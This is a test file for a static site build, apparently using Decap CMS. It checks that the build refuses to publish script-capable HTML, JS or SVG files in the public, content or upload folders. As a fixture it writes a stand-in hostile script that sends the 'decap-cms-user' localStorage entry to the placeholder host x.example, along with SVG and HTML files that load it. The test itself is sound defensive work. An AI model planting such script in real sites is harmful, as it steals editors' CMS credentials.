/**
 * The real build refuses to publish anything that could run on the site's origin: what an
 * attacker (or a careless upload) would put in public/, content/ or the CMS's global media folder.
 */
import { existsSync, readdirSync } from 'node:fs';
import { mkdir, mkdtemp, writeFile } from 'node:fs/promises';
import { dirname, join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { buildSite, copyProject, removeDir, TEST_BUILDS } from '../support/buildSite';

const SVG = '<svg xmlns="http://www.w3.org/2000/svg"><script href="/media/tien-ich.js"/></svg>';

describe('a build with active files beside the content', () => {
  let copy: string;
  let outDir: string;
  beforeAll(async () => {
    copy = await copyProject();
    await mkdir(TEST_BUILDS, { recursive: true });
    outDir = await mkdtemp(join(TEST_BUILDS, 'active-files-'));
  });
  afterAll(async () => {
    await removeDir(copy);
    await removeDir(outDir);
  });

  it('stops before building anything and names each file', async () => {
    const [article] = readdirSync(join(copy, 'content/articles')).sort();
    const files: Record<string, string> = {
      'public/media/bao-cao.html': '<script src="/media/tien-ich.js"></script>',
      'public/media/tien-ich.js': 'fetch("//x.example/" + localStorage.getItem("decap-cms-user"))',
      'public/media/logo.svg': SVG,
      [`content/articles/${article}/so-do.svg`]: SVG,
      'cms-uploads/anh.jpg': 'x',
    };
    for (const [file, text] of Object.entries(files)) {
      await mkdir(dirname(join(copy, file)), { recursive: true });
      await writeFile(join(copy, file), text);
    }
    const error: unknown = await buildSite(copy, outDir).then(
      () => undefined,
      (e: unknown) => e,
    );
    expect(error).toBeInstanceOf(Error);
    const message = (error as Error).message;
    for (const file of Object.keys(files).filter((f) => !f.startsWith('cms-uploads'))) {
      expect(message).toMatch(new RegExp(`${file.replace(/[.]/g, '\\.')}: loại tệp "\\.\\w+" có thể chạy mã \\(script\\)`));
    }
    expect(message).toContain('cms-uploads/anh.jpg: tệp tải lên qua thư viện "Tập tin" chung không bao giờ được đăng');
    expect(message).not.toContain('public/favicon.svg');
    expect(existsSync(join(outDir, 'index.html'))).toBe(false);
    expect(existsSync(join(outDir, 'media'))).toBe(false);
  });
});
